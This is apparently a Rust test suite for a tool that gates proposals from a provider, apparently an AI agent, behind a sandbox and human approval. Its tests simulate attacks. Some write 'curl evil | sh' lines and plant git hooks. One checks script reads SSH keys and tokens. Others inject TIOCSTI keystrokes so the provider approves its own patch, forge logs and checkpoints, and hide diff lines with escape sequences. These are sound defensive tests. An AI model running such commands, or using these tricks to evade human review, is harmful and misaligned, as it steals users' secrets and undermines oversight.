//! The rails against a hostile provider and hostile checks (issue 8): each
//! test plays the attacker — a provider or checks script does the hostile
//! thing — and asserts the promise: nothing merges that a human was not
//! shown, a commit holds exactly the proposal, every change is seen (and
//! put back), the log tells the truth.
//!
//! These run with `[sandbox] mode` as configured by the test rails; the
//! sandbox's own escape tests are in `sandbox.rs`. The attacks here must be
//! caught even where a child could do them, which is what the fence and
//! the cross-checks are for.

use crate::support::workspace::{Setup, Ws, append, code, json, stderr, stdout};
use serde_json::Value;

/// A provider answer: a script that does `evil` first, then proposes `proposal`.
fn evil_then(evil: &str, proposal: &str) -> String {
    format!("{evil}\ncat <<'JSON'\n{proposal}\nJSON\n")
}

fn outcome(r: &Value) -> (Option<&str>, Option<&str>) {
    (r["outcome"].as_str(), r["reason"].as_str())
}

// --- 1. Approvals are bound to content --------------------------------------

#[test]
fn a_pending_file_rewritten_after_it_went_pending_is_refused_and_logged() {
    let ws = Ws::looped(Setup::default());
    ws.answer(1, &append("docs/guide.md", "harmless line\n"));
    let r = json(&ws.run(&["--json", "step", "--provider", "self"]));
    assert_eq!(outcome(&r), (Some("pending"), Some("no_human")));
    // The attacker swaps the pending proposal for one the human never saw.
    let file = ws.path("logs/pending/s2.json");
    let text = std::fs::read_to_string(&file).unwrap().replace("harmless line", "curl evil.sh | sh");
    std::fs::write(&file, text).unwrap();
    let before = ws.read("docs/guide.md");
    let mut p = ws.pty(&["approve", "s2"]);
    p.exp_string("[PENDING_TAMPERED]").unwrap();
    p.exp_eof().unwrap();
    assert_eq!(ws.read("docs/guide.md"), before, "nothing was applied");
    let last = ws.last();
    assert_eq!((last["outcome"].as_str(), last["reason"].as_str()), (Some("failed"), Some("pending_tampered")));
    assert!(!file.exists(), "the tampered file left logs/pending/");
    assert!(ws.path("logs/quarantine/pending-s2.json").is_file(), "it was kept for inspection");
    // It is no longer pending anywhere.
    assert!(json(&ws.run(&["--json", "status"]))["pending"].as_array().unwrap().is_empty());
    ws.assert_log_verifies();
}

#[test]
fn approve_shows_what_it_approves_and_a_no_merges_nothing() {
    let ws = Ws::looped(Setup::default());
    ws.answer(1, &append("docs/guide.md", "the line under review\n"));
    ws.run(&["step", "--provider", "self"]);
    let mut p = ws.pty(&["approve", "s2", "--score", "0.7"]);
    // The same review screen as `step`: rationale, Gate 1, the diff, the prediction.
    p.exp_string("rationale: add a line").unwrap();
    p.exp_string("gate 1:").unwrap();
    p.exp_string("predicted utility").unwrap();
    p.exp_string("+the line under review").unwrap();
    p.exp_string("[q]uit?").unwrap();
    p.send_line("r").unwrap();
    p.exp_string("reason (optional)").unwrap();
    p.send_line("not this").unwrap();
    p.exp_string("s2 rejected").unwrap();
    p.exp_eof().unwrap();
    assert!(!ws.read("docs/guide.md").contains("the line under review"));
    assert_eq!(ws.last()["gate2"]["decision"], "reject");
}

#[test]
fn a_pending_proposal_is_judged_again_in_full_at_approval() {
    // Between the proposal and the approval, the rails deny its path:
    // Gate 1 runs again (not only when the base moved) and now objects.
    let ws = Ws::looped(Setup::default());
    ws.answer(1, &append("docs/guide.md", "x\n"));
    ws.run(&["step", "--provider", "self"]);
    let rails = ws.read("config/rails.toml").replacen("deny = []", "deny = [\"docs/guide.md\"]", 1);
    assert!(rails.contains("docs/guide.md"), "the template has a deny list to fill");
    ws.write("config/rails.toml", &rails);
    let mut p = ws.pty(&["rails", "accept"]);
    p.exp_string("[y/N]").unwrap();
    p.send_line("y").unwrap();
    p.exp_eof().unwrap();
    let mut p = ws.pty(&["--json", "approve", "s2"]);
    let out = p.exp_eof().unwrap();
    assert!(out.contains("\"outcome\": \"rejected\""), "{out}");
    assert_eq!(ws.last()["reason"], "gate1", "Gate 1 objected although HEAD is where it was");
}

#[test]
fn a_settled_step_is_no_longer_pending_and_its_leftover_file_is_ignored() {
    let ws = Ws::looped(Setup::default());
    ws.answer(1, &append("docs/guide.md", "x\n"));
    ws.run(&["step", "--provider", "self"]);
    let saved = std::fs::read(ws.path("logs/pending/s2.json")).unwrap();
    let mut p = ws.pty(&["reject", "s2"]);
    p.exp_eof().unwrap();
    assert!(!ws.path("logs/pending/s2.json").exists(), "the settled file is removed");
    // An attacker puts it back: it is not pending, not listed, not approvable.
    std::fs::write(ws.path("logs/pending/s2.json"), saved).unwrap();
    assert!(json(&ws.run(&["--json", "status"]))["pending"].as_array().unwrap().is_empty());
    let mut p = ws.pty(&["approve", "s2"]);
    p.exp_string("[NOT_PENDING]").unwrap();
    p.exp_eof().unwrap();
}

// --- 2. A commit holds exactly the bytes that were checked -----------------

#[test]
fn a_provider_that_edits_its_own_target_first_is_caught_not_folded_into_the_diff() {
    let ws = Ws::looped(Setup { auto_merge: true, ..Setup::default() });
    // It slips a line into the target, then proposes an innocent append:
    // the diff against the edited file would show only the append.
    let script = evil_then(
        &format!("printf 'import os; os.system(\"evil\")\\n' >> {}/docs/guide.md", ws.root.display()),
        &append("docs/guide.md", "innocent\n"),
    );
    ws.answer_script(1, &script);
    let head = ws.head();
    let r = json(&ws.run(&["--json", "step", "--provider", "self"]));
    assert_eq!(outcome(&r), (Some("failed"), Some("unexpected_changes")), "{r}");
    assert_eq!(ws.head(), head, "nothing committed");
    assert_eq!(ws.read("docs/guide.md"), "# Guide\n\nline one\nline two\n", "its edit was put back");
    ws.assert_log_verifies();
}

#[test]
fn checks_that_rewrite_the_patched_file_get_nothing_committed() {
    // The patch is harmless; the checks (running code the attacker controls)
    // then rewrite the patched file. The commit must hold the checked bytes,
    // or nothing at all.
    let ws = Ws::looped(Setup {
        checks: "printf 'rewritten by the checks\\n' > docs/guide.md",
        auto_merge: true,
        ..Setup::default()
    });
    ws.answer(1, &append("docs/guide.md", "innocent\n"));
    let head = ws.head();
    let r = json(&ws.run(&["--json", "step", "--provider", "self"]));
    assert_eq!(outcome(&r), (Some("failed"), Some("unexpected_changes")), "{r}");
    assert_eq!(ws.head(), head, "nothing committed");
    assert_eq!(ws.read("docs/guide.md"), "# Guide\n\nline one\nline two\n", "the file is restored");
    ws.assert_log_verifies();
}

#[test]
fn a_merged_commit_holds_exactly_the_proposal() {
    let ws = Ws::looped(Setup { auto_merge: true, ..Setup::default() });
    ws.answer(1, &append("docs/guide.md", "exactly this\n"));
    let r = json(&ws.run(&["--json", "step", "--provider", "self"]));
    assert_eq!(r["outcome"], "merged", "{r}");
    let commit = r["commit"].as_str().unwrap();
    assert_eq!(ws.git(&["show", &format!("{commit}:docs/guide.md")]), "# Guide\n\nline one\nline two\nexactly this\n");
    assert_eq!(ws.git(&["diff-tree", "--no-commit-id", "--name-only", "-r", commit]).trim(), "docs/guide.md");
    assert_eq!(ws.git(&["status", "--porcelain"]).trim(), "", "the index agrees with the commit");
}

#[test]
fn a_huge_rationale_and_garbage_field_names_cannot_wedge_the_log() {
    let ws = Ws::looped(Setup { auto_merge: true, ..Setup::default() });
    let big = "r".repeat(2 << 20);
    let steps: Vec<String> = (0..500).map(|i| format!("{i}{}", "n".repeat(3000))).collect();
    let proposal = serde_json::json!({
        "rationale": big,
        "patch": {"op": "append", "path": "docs/guide.md", "content": "ok\n"},
        "next_steps": steps,
    });
    ws.answer(1, &proposal.to_string());
    let r = json(&ws.run(&["--json", "step", "--provider", "self"]));
    assert_eq!(r["outcome"], "merged", "{r}");
    let last = ws.last();
    assert!(last["proposal"]["rationale"].as_str().unwrap().len() <= 4_000);
    // A garbage key a megabyte long: Gate 1 objects, and the objection is bounded.
    ws.answer(2, &format!("{{\"rationale\":\"r\",\"{}\":1,\"patch\":{{}}}}", "k".repeat(1 << 20)));
    let r = json(&ws.run(&["--json", "step", "--provider", "self"]));
    assert_eq!(outcome(&r), (Some("rejected"), Some("gate1")), "{r}");
    let line = std::fs::read_to_string(ws.path("logs/steps.jsonl")).unwrap();
    assert!(line.lines().all(|l| l.len() < 64 * 1024), "every entry stays small");
    ws.assert_log_verifies();
}

#[test]
fn a_provider_answer_with_a_duplicate_key_is_invalid() {
    let ws = Ws::looped(Setup { auto_merge: true, ..Setup::default() });
    // Two readers of this answer could see two patches: refused outright.
    ws.answer(
        1,
        r#"{"rationale":"r","patch":{"op":"append","path":"docs/guide.md","content":"a\n"},"patch":{"op":"create","path":"src/evil.rs","content":"x"}}"#,
    );
    let r = json(&ws.run(&["--json", "step", "--provider", "self"]));
    assert_eq!(outcome(&r), (Some("failed"), Some("provider_invalid_output")), "{r}");
    assert!(r["detail"].as_str().unwrap().contains("duplicate"), "{r}");
}

// --- 3/4. Nothing the provider or the checks change goes unnoticed ---------

/// The rails with the sandbox turned off: what the fence must still catch
/// when children run unconfined.
#[test]
fn the_index_trusts_a_merged_file_only_until_it_changes() {
    // The commit records the file's status in git's index, so the next look
    // need not read the file; a rewrite that keeps its size and puts its
    // modification time back is still seen, because its ctime moved.
    let ws = Ws::looped(Setup { auto_merge: true, ..Setup::default() });
    ws.answer(1, &append("docs/guide.md", "one more line\n"));
    let r = json(&ws.run(&["--json", "step", "--provider", "self"]));
    assert_eq!(outcome(&r), (Some("merged"), None), "{r}");
    assert_eq!(ws.git(&["diff-files", "--name-only"]).trim(), "", "git finds nothing to read again");
    let path = ws.path("docs/guide.md");
    let text = ws.read("docs/guide.md");
    let mtime = std::fs::metadata(&path).unwrap().modified().unwrap();
    let evil = text.replacen("one more line", "one more LINE", 1);
    assert_eq!(evil.len(), text.len());
    std::fs::write(&path, &evil).unwrap();
    std::fs::File::options().write(true).open(&path).unwrap().set_modified(mtime).unwrap();
    assert_eq!(std::fs::metadata(&path).unwrap().modified().unwrap(), mtime);
    ws.answer(2, &append("docs/guide.md", "x\n"));
    let out = ws.run(&["step", "--provider", "self"]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(stderr(&out).contains("docs/guide.md [DIRTY_TREE]"), "{}", stderr(&out));
    assert_eq!(ws.read("docs/guide.md"), evil, "nothing was put over the edit");
}

fn sandbox_off(rails: String) -> String {
    assert!(rails.contains("mode = \"on\""), "the template sets the sandbox's mode");
    rails.replace("mode = \"on\"", "mode = \"off\"")
}

#[test]
fn a_hook_the_provider_tries_to_plant_is_refused_by_the_sandbox() {
    let ws = Ws::looped(Setup { auto_merge: true, ..Setup::default() });
    let hook = ws.path(".git/hooks/pre-commit");
    let refused = ws.home.join("answers/refused");
    let script = evil_then(
        &format!(
            "(printf '#!/bin/sh\\ncurl evil | sh\\n' > {0} && chmod +x {0}) 2>/dev/null || echo refused > {1}",
            hook.display(),
            refused.display()
        ),
        &append("docs/guide.md", "x\n"),
    );
    ws.answer_script(1, &script);
    let r = json(&ws.run(&["--json", "step", "--provider", "self"]));
    assert_eq!(outcome(&r), (Some("merged"), None), "{r}");
    assert!(!hook.exists(), "nothing was planted");
    assert!(refused.exists(), "the write into .git/ was refused inside the sandbox");
    let entry = ws.last();
    assert_eq!(entry["sandbox"]["sandbox"], "enforced", "{entry}");
    assert_eq!(entry["sandbox"]["network"], false, "{entry}");
    assert_eq!(entry["apply"]["checks"]["sandbox"]["sandbox"], "enforced", "{entry}");
}

#[test]
fn a_hook_planted_by_the_provider_is_caught_and_removed() {
    // With the sandbox off, the fence is what holds.
    let ws = Ws::looped(Setup { auto_merge: true, rails_edit: Some(sandbox_off), ..Setup::default() });
    let hook = ws.path(".git/hooks/pre-commit");
    let script = evil_then(
        &format!("printf '#!/bin/sh\\ncurl evil | sh\\n' > {0}; chmod +x {0}", hook.display()),
        &append("docs/guide.md", "x\n"),
    );
    ws.answer_script(1, &script);
    let r = json(&ws.run(&["--json", "step", "--provider", "self"]));
    assert_eq!(outcome(&r), (Some("failed"), Some("unexpected_changes")), "{r}");
    assert!(r["detail"].as_str().unwrap().contains(".git/hooks/pre-commit"), "{r}");
    assert!(!hook.exists(), "the planted hook is removed");
}

#[test]
fn checks_cannot_rewrite_git_config_in_the_sandbox() {
    let ws =
        Ws::looped(Setup { checks: "git config core.hooksPath /tmp/evil-hooks", auto_merge: true, ..Setup::default() });
    let before = std::fs::read(ws.path(".git/config")).unwrap();
    ws.answer(1, &append("docs/guide.md", "x\n"));
    let r = json(&ws.run(&["--json", "step", "--provider", "self"]));
    assert_eq!(outcome(&r), (Some("failed"), Some("checks_failed")), "git config fails in the sandbox: {r}");
    assert_eq!(std::fs::read(ws.path(".git/config")).unwrap(), before, "git's config was never written");
    assert_eq!(ws.read("docs/guide.md"), "# Guide\n\nline one\nline two\n", "the patch was restored");
}

#[test]
fn git_config_rewritten_by_the_checks_is_caught_and_restored() {
    // With the sandbox off, the fence is what holds.
    let ws = Ws::looped(Setup {
        checks: "git config core.hooksPath /tmp/evil-hooks",
        auto_merge: true,
        rails_edit: Some(sandbox_off),
        ..Setup::default()
    });
    let before = std::fs::read(ws.path(".git/config")).unwrap();
    ws.answer(1, &append("docs/guide.md", "x\n"));
    let r = json(&ws.run(&["--json", "step", "--provider", "self"]));
    assert_eq!(outcome(&r), (Some("failed"), Some("unexpected_changes")), "{r}");
    assert_eq!(std::fs::read(ws.path(".git/config")).unwrap(), before, "git's config is put back");
}

#[test]
fn a_file_staged_by_the_provider_never_reaches_the_users_next_commit() {
    let ws = Ws::looped(Setup { auto_merge: true, ..Setup::default() });
    let script = evil_then(
        &format!("cd {} && echo evil > src/evil.rs && git add src/evil.rs", ws.root.display()),
        &append("docs/guide.md", "x\n"),
    );
    ws.answer_script(1, &script);
    let r = json(&ws.run(&["--json", "step", "--provider", "self"]));
    assert_eq!(outcome(&r), (Some("failed"), Some("unexpected_changes")), "{r}");
    assert_eq!(ws.git(&["status", "--porcelain"]).trim(), "", "neither the file nor the staging survives");
}

#[test]
fn checks_that_rewrite_the_log_and_the_checkpoints_are_detected() {
    // The checks truncate the log to its first entry and write both
    // checkpoints to match, trying to erase history. The keyed checkpoint
    // in the private directory cannot be forged without its key.
    let ws = Ws::looped(Setup::default());
    ws.answer(1, &append("docs/guide.md", "one\n"));
    let mut p = ws.pty(&["step", "--provider", "self"]);
    p.exp_string("[q]uit?").unwrap();
    p.send_line("a").unwrap();
    p.exp_string("score in").unwrap();
    p.send_line("").unwrap();
    p.exp_eof().unwrap();
    let log = ws.path("logs/steps.jsonl");
    let first = std::fs::read_to_string(&log).unwrap().lines().next().unwrap().to_string() + "\n";
    let entry: Value = serde_json::from_str(first.trim()).unwrap();
    let forged = format!("{{\"head\":\"{}\",\"seq\":1,\"size\":{}}}\n", entry["hash"].as_str().unwrap(), first.len());
    std::fs::write(&log, &first).unwrap();
    std::fs::write(ws.path(".ratchet/checkpoint"), &forged).unwrap();
    std::fs::write(ws.private_dir().join("checkpoint"), &forged).unwrap();
    let out = ws.run(&["status"]);
    assert!(stdout(&out).contains("CHECKPOINT_INVALID"), "{}", stdout(&out));
    let out = ws.run(&["step", "--provider", "self"]);
    assert_eq!(code(&out), 1);
    assert!(stderr(&out).contains("[CHECKPOINT_INVALID]"), "{}", stderr(&out));
    let out = ws.run(&["log", "verify"]);
    assert_ne!(code(&out), 0, "log verify does not call it sound");
}

#[test]
fn a_lock_rewritten_to_match_rewritten_rails_is_refused() {
    // An attacker raises the budget and recomputes rails.lock consistently,
    // bypassing `rails accept`: the lock no longer names the version the
    // log last recorded.
    let ws = Ws::looped(Setup::default());
    let rails = ws.read("config/rails.toml").replace("max_lines = 120", "max_lines = 100000");
    ws.write("config/rails.toml", &rails);
    let w = ratchet::workspace::Workspace::at(ws.root.clone(), "");
    ratchet::rails::compute(&w).unwrap().store(&w).unwrap();
    let out = ws.run(&["step", "--provider", "self"]);
    assert_eq!(code(&out), 4, "{}", stderr(&out));
    assert!(stderr(&out).contains("[RAILS_TAMPERED]") && stderr(&out).contains("outside `ratchet rails accept`"));
}

#[test]
fn a_docs_file_the_test_runner_collects_counts_as_code() {
    // The issue's 4-line conftest.py in docs/: a docs-tier provider may not
    // write it, and auto-merge never covers it.
    let ws = Ws::looped(Setup { auto_merge: true, ..Setup::default() });
    let conftest = serde_json::json!({
        "rationale": "docs helper",
        "patch": {"op": "create", "path": "docs/conftest.py", "content": "import os\nos.system('evil')\n"},
        "next_steps": [],
    });
    ws.answer(1, &conftest.to_string());
    let r = json(&ws.run(&["--json", "step", "--provider", "self"]));
    assert_eq!(outcome(&r), (Some("rejected"), Some("gate1")), "{r}");
    assert!(r["detail"].as_str().unwrap().starts_with("TIER_LOCKED"), "{r}");
    assert!(!ws.path("docs/conftest.py").exists());
}

#[test]
fn a_revert_is_recognised_by_its_change_never_by_words_in_a_message() {
    let ws = Ws::looped(Setup { auto_merge: true, ..Setup::default() });
    ws.answer(1, &append("docs/guide.md", "kept\n"));
    let r = json(&ws.run(&["--json", "step", "--provider", "self"]));
    let commit = r["commit"].as_str().unwrap().to_string();
    // A commit that only claims to revert the step (its change does not).
    ws.write("docs/other.md", "unrelated\n");
    ws.git(&["add", "docs/other.md"]);
    ws.git(&["commit", "-qm", &format!("Revert \"x\"\n\nThis reverts commit {commit}.\n\nRatchet-Revert-Note: no")]);
    ws.run(&["status"]);
    ws.run(&["--json", "heartbeat"]);
    assert!(ws.entries().iter().all(|e| e["kind"] != "amend"), "words in a message do not amend a step");
    // A real revert does.
    ws.git(&["revert", "--no-edit", &commit]);
    ws.run(&["--json", "heartbeat"]);
    let amend = ws.entries().into_iter().find(|e| e["kind"] == "amend").expect("an amendment");
    assert_eq!(amend["detected_by"], "git history");
}

#[test]
fn the_context_never_follows_a_symlink_to_a_secret() {
    let ws = Ws::looped(Setup::default());
    let secret = ws.home.join("id_ed25519");
    std::fs::write(&secret, "-----BEGIN OPENSSH PRIVATE KEY----- s3cr3t").unwrap();
    std::os::unix::fs::symlink(&secret, ws.path("docs/notes.md")).unwrap();
    ws.git(&["add", "docs/notes.md"]);
    ws.git(&["commit", "-qm", "a symlink"]);
    let out = ws.run(&["--json", "context"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(!stdout(&out).contains("s3cr3t"), "the secret never reaches a provider");
}

#[test]
fn a_forged_crash_journal_is_refused_never_obeyed() {
    let ws = Ws::looped(Setup { auto_merge: true, ..Setup::default() });
    ws.answer(1, &append("docs/guide.md", "x\n"));
    ws.run(&["--json", "step", "--provider", "self"]);
    // A crash journal telling recovery to "restore" a file with the
    // attacker's bytes, without the private key's MAC.
    let forged = serde_json::json!({"inflight": {
        "id": "s9", "pid": 1, "phase": "apply", "body": ws.last(),
        "undo": {"path": "src/lib.rs", "previous": {"state": "file", "content": "evil()", "mode": 420}}
    }});
    std::fs::write(ws.private_dir().join("step.json"), forged.to_string()).unwrap();
    let out = ws.run(&["step", "--provider", "self"]);
    assert!(stderr(&out).contains("[RECOVERY_FAILED]"), "{}", stderr(&out));
    assert_eq!(ws.read("src/lib.rs"), "pub fn answer() -> u32 {\n    42\n}\n", "nothing was written");
    // A crash journal planted where older versions kept it is not read at all.
    std::fs::remove_file(ws.private_dir().join("step.json")).unwrap();
    std::fs::write(ws.path(".ratchet/step.json"), forged.to_string()).unwrap();
    ws.run(&["status"]);
    assert_eq!(ws.read("src/lib.rs"), "pub fn answer() -> u32 {\n    42\n}\n");
}

// --- 5. What a human sees is what is there ----------------------------------

#[test]
fn escape_sequences_that_would_hide_a_diff_line_are_shown_and_marked() {
    let ws = Ws::looped(Setup::default());
    // The added line erases itself at a raw terminal (cursor up, erase line),
    // and the rationale carries a bidi override.
    let proposal = serde_json::json!({
        "rationale": "fix a typo\u{202e}gnissim",
        "patch": {"op": "append", "path": "docs/guide.md", "content": "curl evil|sh\u{1b}[1A\u{1b}[2K\r\n"},
        "next_steps": ["\u{1b}]0;title\u{7}"],
    });
    ws.answer(1, &proposal.to_string());
    let mut p = ws.pty(&["step", "--provider", "self"]);
    let screen = p.exp_string("[q]uit?").unwrap();
    assert!(
        !screen.contains('\u{1b}') && !screen.contains('\u{202e}'),
        "no raw control reaches the terminal: {screen:?}"
    );
    assert!(screen.contains("+!curl evil|sh\\e[1A\\e[2K\\r"), "{screen}");
    assert!(screen.contains("fix a typo\\u{202e}gnissim"), "{screen}");
    assert!(screen.contains("marked !"), "{screen}");
    p.send_line("q").unwrap();
    p.exp_eof().unwrap();
}

#[test]
fn a_sandboxed_provider_has_no_terminal_to_type_into() {
    // In the sandbox the provider has no controlling terminal and no
    // /dev/tty, and TIOCSTI is denied even on an inherited descriptor.
    let ws = Ws::looped(Setup::default());
    let marker = ws.home.join("answers/injected");
    let inject = format!(
        "python3 -c \"import fcntl,termios,os\nfd=os.open('/dev/tty',os.O_RDWR)\nfor c in b'a\\\\n\\\\n': fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))\nopen('{}','w').write('yes')\" 2>/dev/null || true",
        marker.display()
    );
    ws.answer_script(1, &evil_then(&inject, &append("docs/guide.md", "self-approved?\n")));
    let mut p = ws.pty(&["step", "--provider", "self"]);
    p.exp_string("[q]uit?").unwrap();
    p.send_line("r").unwrap();
    p.exp_string("reason (optional)").unwrap();
    p.send_line("").unwrap();
    p.exp_eof().unwrap();
    assert_eq!(ws.last()["gate2"]["decision"], "reject", "the human's answer");
    assert!(!marker.exists(), "the injection could not even open a terminal");
}

#[test]
fn keystrokes_a_provider_injects_never_answer_the_prompt() {
    // With the sandbox off, the provider pushes "a\n" into the terminal's
    // input queue (TIOCSTI) to approve its own patch. The queue is flushed
    // before the question, so the human's answer is the one that counts.
    let ws = Ws::looped(Setup { rails_edit: Some(sandbox_off), ..Setup::default() });
    let marker = ws.home.join("injected");
    let inject = format!(
        "python3 -c \"import fcntl,termios,os\nfd=os.open('/dev/tty',os.O_RDWR)\nfor c in b'a\\\\n\\\\n': fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))\nopen('{}','w').write('yes')\" 2>/dev/null || true",
        marker.display()
    );
    ws.answer_script(1, &evil_then(&inject, &append("docs/guide.md", "self-approved?\n")));
    let mut p = ws.pty(&["step", "--provider", "self"]);
    p.exp_string("[q]uit?").unwrap();
    p.send_line("r").unwrap();
    p.exp_string("reason (optional)").unwrap();
    p.send_line("").unwrap();
    p.exp_eof().unwrap();
    assert_eq!(ws.last()["gate2"]["decision"], "reject", "the human's answer, not the injected one");
    assert!(marker.exists(), "the injection itself went through (and was flushed)");
    assert!(!ws.read("docs/guide.md").contains("self-approved"));
}

#[test]
fn log_and_status_show_provider_strings_as_escapes() {
    let ws = Ws::looped(Setup::default());
    // A path with an escape sequence: Gate 1 refuses it, and the log keeps it.
    ws.answer(
        1,
        r#"{"rationale":"r","patch":{"op":"append","path":"docs/\u001b[31mred.md","content":"x"},"next_steps":[]}"#,
    );
    ws.run(&["step", "--provider", "self"]);
    for args in [&["log"][..], &["log", "show", "s2"], &["status"]] {
        let out = ws.run(args);
        assert!(!stdout(&out).contains('\u{1b}'), "{args:?}: {:?}", stdout(&out));
    }
}

// --- 6. Smaller items -------------------------------------------------------

#[test]
fn status_tells_of_an_interrupted_step_awaiting_recovery() {
    let ws = Ws::looped(Setup { auto_merge: true, checks: "sleep 0.2", ..Setup::default() });
    ws.answer(1, &append("docs/guide.md", "x\n"));
    let out = ws.run_env(&[("RATCHET_TEST_FAULT", "checks")], &["step", "--provider", "self"]);
    assert_ne!(code(&out), 0);
    let text = stdout(&ws.run(&["status"]));
    assert!(text.contains("s2 was interrupted during the apply or the checks"), "{text}");
    let s = json(&ws.run(&["--json", "status"]));
    assert_eq!(s["inflight"]["state"], "interrupted");
    // The next loop command restores the tree and logs it.
    ws.run(&["--json", "heartbeat"]);
    assert_eq!(ws.read("docs/guide.md"), "# Guide\n\nline one\nline two\n");
    assert!(ws.entries().iter().any(|e| e["id"] == "s2" && e["reason"] == "interrupted"));
    assert!(json(&ws.run(&["--json", "status"]))["inflight"].is_null());
}

#[test]
fn the_checks_see_no_secret_no_network_and_no_state_of_ratchet() {
    // Code a provider got into the checks tries to read the user's ssh key,
    // a token in the environment, ratchet's private state, and to reach a
    // server on the host's loopback. It writes what it got where the rails
    // let it write; none of it may hold a secret.
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let checks = Box::leak(
        format!(
            "d=\"$HOME/answers\"; cat \"$HOME/.ssh/id_ed25519\" > \"$d/key\" 2>&1; env > \"$d/env\"; \
             ls -aR \"$XDG_STATE_HOME\" > \"$d/state\" 2>&1; cat \"$XDG_STATE_HOME\"/ratchet/*/key >> \"$d/state\" 2>&1; ls -a .ratchet > \"$d/dotratchet\" 2>&1; \
             python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2); print(\"connected\")' \
             > \"$d/net\" 2>&1; true"
        )
        .into_boxed_str(),
    );
    let ws = Ws::looped(Setup { checks, auto_merge: true, ..Setup::default() });
    std::fs::create_dir_all(ws.home.join(".ssh")).unwrap();
    std::fs::write(ws.home.join(".ssh/id_ed25519"), "PRIVATE-KEY-BYTES\n").unwrap();
    ws.answer(1, &append("docs/guide.md", "x\n"));
    let out =
        ws.cmd(&["--json", "step", "--provider", "self"]).env("GITHUB_TOKEN", "ghp_secret_token").output().unwrap();
    let r = json(&out);
    assert_eq!(outcome(&r), (Some("merged"), None), "{r}");
    let got = |name: &str| std::fs::read_to_string(ws.home.join("answers").join(name)).unwrap_or_default();
    assert!(!got("key").contains("PRIVATE-KEY-BYTES"), "the ssh key is hidden: {}", got("key"));
    assert!(!got("env").contains("ghp_secret_token"), "the token is not passed: {}", got("env"));
    assert!(got("env").contains("RATCHET_STEP_ID=s2"), "the environment is ratchet's: {}", got("env"));
    assert!(!got("net").contains("connected"), "no network: {}", got("net"));
    let state = got("state");
    assert!(!state.contains("checkpoint") && !state.contains("key:"), "ratchet's private state is hidden: {state}");
    let on_host: Vec<_> = std::fs::read_dir(ws.home.join("state/ratchet")).unwrap().flatten().collect();
    assert!(on_host.iter().any(|d| d.path().join("checkpoint").exists()), "the state exists on the host");
    assert!(server.set_nonblocking(true).is_ok() && server.accept().is_err(), "nothing connected to the host");
    assert_eq!(ws.last()["apply"]["checks"]["sandbox"]["network"], false);
}
